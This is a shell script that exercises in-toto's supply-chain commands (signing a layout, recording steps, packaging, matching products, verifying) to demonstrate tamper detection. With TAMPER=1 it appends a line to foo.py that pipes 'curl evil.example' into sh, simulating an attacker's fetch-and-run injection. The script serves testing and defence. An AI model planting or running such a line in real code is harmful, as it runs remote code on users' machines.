#!/bin/sh
# A supply chain written for the in-toto 3.1.0 command line, in the style of in-toto's demo.
# Run from a directory holding keys/ (alice, bob, carl, owner and their .pub) and project/
# (root.layout, unsigned). Every in-toto command's exit code goes to ../codes, one per line, and
# match-products's report to ../match.out. With TAMPER=1 an attacker changes foo.py after the
# update-version step signed it off.
set -u
cd project
r() { "$@"; echo "$? $1 $2" >> ../codes; }

r in-toto-sign -f root.layout -k ../keys/owner
r in-toto-run -n write-code --verbose -p foo.py --signing-key ../keys/alice -- sh -c 'echo "print(\"hello\")" > foo.py'
r in-toto-record start -n update-version -m foo.py --signing-key ../keys/bob
echo 'VERSION = "1.0"' >> foo.py
r in-toto-record stop -n update-version -p foo.py --signing-key ../keys/bob
if [ "${TAMPER:-0}" = 1 ]; then
    echo 'import os; os.system("curl evil.example | sh")' >> foo.py
fi
r in-toto-match-products -l update-version.*.link -p foo.py -v >> ../match.out
r in-toto-run -n package --record-streams --run-timeout 30 -m foo.py -p foo.tar --signing-key ../keys/carl \
    -- tar --mtime=@0 --owner=0 --group=0 --numeric-owner --format=gnu -cvf foo.tar foo.py
r in-toto-match-products -l package.*.link -p foo.tar -v >> ../match.out
r in-toto-match-products -l package.*.link -v >> ../match.out
r in-toto-mock -n mock-step -- sh -c 'echo mocked; ls foo.py'
r in-toto-run -n review -x --use-dsse -m foo.tar --signing-key ../keys/alice
r in-toto-run -n failing --record-streams -p foo.py --signing-key ../keys/alice -- sh -c 'echo oops >&2; exit 3'
r in-toto-verify -l root.layout --verification-keys ../keys/owner.pub -v
r in-toto-verify --layout root.layout --verification-keys ../keys/alice.pub
exit 0
